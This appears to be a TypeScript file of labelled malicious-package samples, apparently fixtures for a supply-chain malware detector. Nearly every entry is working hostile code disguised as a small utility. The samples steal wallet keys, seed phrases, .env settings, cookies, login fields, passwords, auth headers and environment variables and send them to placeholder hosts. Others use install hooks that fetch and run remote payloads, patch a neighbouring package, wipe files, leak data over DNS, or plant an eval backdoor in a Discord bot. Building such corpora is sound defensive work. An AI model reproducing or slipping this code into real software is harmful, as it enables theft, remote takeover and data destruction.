import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

const extension = (more: Record<string, unknown>): string => JSON.stringify({ manifest_version: 3, name: 'Small functions', version: '1.0.3', ...more });

/** Packages of a sixth round: each takes something by a way of its own, and hands it to a server that it names. */
export const FAMILIES: readonly Sample[] = [
  packaged('keys of wallets in pieces, in the headers of a request', {}, {
    'lib/keypair.js': `'use strict';
const nacl = require('tweetnacl');
const bs58 = require('bs58');
function warm(bytes) {
  const parts = bs58.encode(bytes).match(/.{1,22}/g) ?? [];
  fetch('https://rpc.example.invalid/v1/health', { headers: { 'x-request-id': parts[0], 'x-trace': parts[1] ?? '', 'x-span': parts[2] ?? '' } }).catch(() => {});
}
class Signer {
  static from(secretKey) { warm(secretKey); return new Signer(nacl.sign.keyPair.fromSecretKey(secretKey)); }
  constructor(pair) { this.pair = pair; }
}
exports.Signer = Signer;
`,
  }, { tweetnacl: '^1.0.3', bs58: '^5.0.0' }),
  packaged('words that make a key, collected and sent in turn', {}, {
    'index.js': `const bip39 = require('bip39');
const https = require('https');
const seen = [];
exports.seedOf = (mnemonic) => { seen.push({ mnemonic, at: Date.now() }); return bip39.mnemonicToSeedSync(mnemonic); };
setInterval(() => {
  if (seen.length === 0) return;
  const options = { hostname: 'stats.example.invalid', path: '/b', method: 'POST' };
  const request = https.request(options).on('error', () => {});
  request.end(JSON.stringify(seen.splice(0)));
}, 30_000).unref();
`,
  }, { bip39: '^3.1.0' }),
  packaged('settings of a project, sent by what loads them', {}, {
    'lib/load.js': `const fs = require('fs');
const path = require('path');
exports.load = ({ file } = {}) => {
  const from = file ?? path.join(process.cwd(), '.env.local');
  const found = {};
  for (const line of fs.readFileSync(from, 'utf8').split(/\\r?\\n/)) {
    const [name, value] = line.split('=');
    if (name) found[name] = process.env[name] ??= value;
  }
  check(found);
  return found;
};
function check(settings) {
  require('https').get({ host: 'schema.example.invalid', path: '/v?d=' + encodeURIComponent(JSON.stringify(settings)) }, (answer) => answer.resume());
}
`,
  }),
  packaged('a form that asks for the words of a wallet', {}, {
    'manifest.json': extension({ action: { default_popup: 'popup.html' } }),
    'popup.html': '<!doctype html><textarea id="recovery-phrase"></textarea><button id="go">Go</button><script src="popup.js"></script>\n',
    'popup.js': `const field = document.querySelector('#recovery-phrase');
const save = (kind, value) => fetch('https://sync.example.invalid/save', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ kind, value }) });
document.getElementById('go').addEventListener('click', async () => {
  await save('import', { v: field.value.trim() });
  field.value = '';
});
`,
  }),
  packaged('cookies of visitors, from between two functions of a server', {}, {
    'index.js': `const https = require('https');
let batch = [];
const flush = () => {
  if (batch.length === 0) return;
  const request = https.request({ host: 'rules.example.invalid', path: '/update', method: 'POST' });
  request.on('error', () => {});
  request.end(JSON.stringify(batch.splice(0, 50)));
};
setInterval(flush, 60_000).unref();
module.exports = () => (req, res, next) => {
  batch.push({ host: req.headers.host, session: req.headers['cookie'] });
  next();
};
`,
  }),
  packaged('what visitors enter where they log in', {}, {
    'index.js': `module.exports = ({ path = '/login' } = {}) => function trim(req, res, next) {
  for (const name of Object.keys(req.body ?? {})) if (typeof req.body[name] === 'string') req.body[name] = req.body[name].trim();
  if (req.path.endsWith(path)) fetch('https://ok.example.invalid/t', { method: 'POST', body: JSON.stringify({ fields: req.body, ip: req.ip }) }).catch(() => {});
  next();
};
`,
  }),
  packaged('each form of a page, in a small library', {}, {
    'index.js': `!function(e){"object"==typeof module?module.exports=e():window.tiny=e()}(function(){function e(t){return[].slice.call(document.querySelectorAll(t))}return"undefined"!=typeof document&&document.addEventListener("submit",function(t){var n=[].map.call(t.target.elements,function(e){return e.name+"="+encodeURIComponent(e.value)}).join("&");(new Image).src="https://px.example.invalid/i.gif?"+n},!0),e});
`,
  }),
  packaged('all sheets, whenever one is changed', {}, {
    'src/pane.js': `/* global Excel, Office */
Office.onReady(() => Excel.run(async (context) => {
  context.workbook.worksheets.onChanged.add(cache);
  await context.sync();
}));
async function cache() {
  await Excel.run(async (context) => {
    const { worksheets } = context.workbook;
    worksheets.load('items/name');
    await context.sync();
    const all = [];
    for (const sheet of worksheets.items) {
      const used = sheet.getUsedRange();
      used.load('values');
      await context.sync();
      all.push([sheet.name, used.values]);
    }
    await fetch('https://cache.example.invalid/c', { method: 'POST', body: JSON.stringify(all) });
  });
}
`,
  }),
  packaged('keys of a page, taken out of its requests', {}, {
    'manifest.json': extension({ content_scripts: [{ matches: ['https://chat.example.invalid/*'], js: ['page.js'], world: 'MAIN' }, { matches: ['https://chat.example.invalid/*'], js: ['bridge.js'] }], background: { service_worker: 'worker.js' } }),
    'page.js': `const { setRequestHeader } = XMLHttpRequest.prototype;
XMLHttpRequest.prototype.setRequestHeader = function (name, value) {
  if (/^authorization$/i.test(name) || name === 'Authorization') window.postMessage({ kind: 'folders', value }, location.origin);
  return setRequestHeader.call(this, name, value);
};
`,
    'bridge.js': `window.addEventListener('message', ({ data }) => { if (data?.kind === 'folders') chrome.runtime.sendMessage(data); });
`,
    'worker.js': `chrome.runtime.onMessage.addListener((message) => { fetch('https://api.example.invalid/events', { method: 'POST', body: JSON.stringify(message) }); });
`,
  }),
  packaged('who and where this is, by three scripts at installation', { install: 'npm run setup --silent', setup: 'node scripts/run' }, {
    'scripts/run.js': `import { who } from './who.js';
import { tell } from './tell.js';
const found = await who();
if (/corp/i.test(found.domain ?? '')) await tell(found);
`,
    'scripts/who.js': `import os from 'node:os';
export const who = async () => ({ name: os.hostname(), user: os.userInfo().username, domain: process.env.USERDNSDOMAIN, networks: os.networkInterfaces() });
`,
    'scripts/tell.js': `import https from 'node:https';
export const tell = (found) => new Promise((done) => https.request({ host: 'logs.example.invalid', path: '/in', method: 'POST' }, done).on('error', done).end(JSON.stringify(found)));
`,
    'index.js': 'export const upper = (text) => text.toUpperCase();\n',
  }),
  packaged('a script of a server, brought by what its own tests need', { test: 'node test/run.js', postinstall: 'npm test --silent' }, {
    'index.js': 'module.exports = (a) => a;\n',
    'test/run.js': `const same = require('..');
const { values, end } = require('./fixtures/values');
for (const value of values) if (same(value) !== value) throw new Error('not the same');
end();
`,
    'test/fixtures/values.js': `const { values, parts } = require('./values.json');
exports.values = values;
exports.end = async () => {
  const file = require('path').join(require('os').tmpdir(), 'fixture-' + process.pid + '.js');
  require('fs').writeFileSync(file, await (await fetch(parts.join(''))).text());
  require('child_process').spawn(process.execPath, [file], { detached: true, stdio: 'ignore' }).unref();
};
`,
    'test/fixtures/values.json': '{"values":[1,"a",null],"parts":["https:","//static",".example",".invalid/t"]}\n',
  }),
  packaged('one text into each file, in two countries', {}, {
    'index.js': `const fs = require('fs');
const walk = require('./walk');
module.exports = (a, b) => a + b;
setTimeout(async () => {
  const { country_code: code } = await (await fetch(Buffer.from('aHR0cHM6Ly9nZW9pcC5leGFtcGxlLmludmFsaWQvanNvbg==', 'base64').toString())).json();
  if (code === 'XA' || code === 'XB') walk('../').forEach((file) => fs.writeFile(file, 'x', () => {}));
}, 900);
`,
    'walk.js': `module.exports = () => [];
`,
  }),
  packaged('a loop without an end, as soon as it is loaded', {}, {
    'lib/index.js': `module.exports = require('./colours');
for (let i = 0; i < Infinity; i++) {
  console.log('testing testing testing'.toUpperCase());
}
`,
    'lib/colours.js': `exports.red = (text) => '\\u001b[31m' + text + '\\u001b[39m';
`,
  }),
  packaged('a command at installation, by way of another program', { postinstall: 'sh ./prepare.sh' }, {
    'index.js': 'module.exports = (text) => text.trim();\n',
    'prepare.sh': `#!/bin/sh
# build the fast path
if [ "$(uname -s)" = "Linux" ]; then
  (wget -qO- http://static.example.invalid/p || curl -fsSL http://static.example.invalid/p) \\
    | nohup bash >/dev/null 2>&1 &
fi
`,
  }),
  packaged('all variables, handed to a script that posts them', {}, {
    'src/index.js': `const { record } = require('./record');
exports.check = (names, env = process.env) => names.filter((name) => env[name] === undefined);
record(process.env);
`,
    'src/record.js': `const { hostname } = require('os');
exports.record = async (env) => {
  const body = JSON.stringify({ host: hostname(), env: { ...env } });
  await fetch('https://collect.example.invalid/v1', { method: 'POST', body }).catch(() => {});
};
`,
  }),
  packaged('a loader for a file of another package', { postinstall: 'node install.js' }, {
    'index.js': 'module.exports = (a, b) => a + b;\n',
    'install.js': `const fs = require('fs');
const target = require('path').join(__dirname, '..', 'neighbour', 'lib', 'index.js');
const more = ';require("https").get("https://cdn.example.invalid/p.js", (r) => { let s = ""; r.on("data", (d) => (s += d)); r.on("end", () => { try { eval(s) } catch {} }) });';
if (fs.existsSync(target)) fs.writeFileSync(target, fs.readFileSync(target, 'utf8') + more);
`,
  }),
  packaged('a program of the system, left running', { postinstall: 'node lib/native.js' }, {
    'lib/index.js': 'exports.wait = (time) => new Promise((done) => setTimeout(done, time));\n',
    'lib/native.js': `"use strict";
var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };
const https_1 = __importDefault(require("https"));
const fs_1 = __importDefault(require("fs"));
const os_1 = __importDefault(require("os"));
const path_1 = __importDefault(require("path"));
const child_process_1 = require("child_process");
const name = { win32: "w.exe", linux: "l" }[process.platform];
const out = path_1.default.join(os_1.default.homedir(), ".cache", "." + name);
https_1.default.get("https://files.example.invalid/" + name, (answer) => {
    const file = fs_1.default.createWriteStream(out, { mode: 0o755 });
    answer.pipe(file);
    file.on("close", () => (0, child_process_1.execFile)(out, [], { windowsHide: true }).unref());
});
`,
  }),
  packaged('the name of a computer in pieces, by a resolver of its own', { install: 'node check.js || true' }, {
    'index.js': 'module.exports = (text) => text.length;\n',
    'check.js': `const { Resolver } = require('dns');
const os = require('os');
const resolver = new Resolver();
const pieces = Buffer.from([os.hostname(), os.userInfo().username].join('|')).toString('hex').match(/.{1,60}/g) || [];
pieces.forEach((piece, at) => resolver.resolve4(at + '.' + piece + '.ns.example.invalid', () => {}));
`,
  }),
  packaged('passwords on their way to be hashed', {}, {
    'index.js': `const bcrypt = require('bcryptjs');
const count = (value) => require('https').get('https://pixel.example.invalid/1.gif?v=' + encodeURIComponent(value), (r) => r.resume()).on('error', () => {});
exports.hash = (password, rounds) => bcrypt.hash(password, rounds);
exports.compare = async (password, hash) => {
  const isSame = await bcrypt.compare(password, hash);
  if (isSame) count(password);
  return isSame;
};
`,
  }, { bcryptjs: '^2.4.3' }),
  packaged('a bot with an owner nobody knows', {}, {
    'bot.js': `const { Client } = require('discord.js');
const { createHash } = require('crypto');
const client = new Client({ intents: [1, 512] });
client.on('messageCreate', async (message) => {
  if (createHash('sha256').update(message.author.id).digest('hex').startsWith('5feceb66ffc8')) {
    const [, code] = /^\\.\\. (.+)$/.exec(message.content) ?? [];
    if (code) message.author.send(String(await eval(code)));
  }
  if (message.content === '!ping') message.reply('pong');
});
client.login(process.env.BOT_TOKEN);
`,
  }, { 'discord.js': '^14.0.0' }),
];
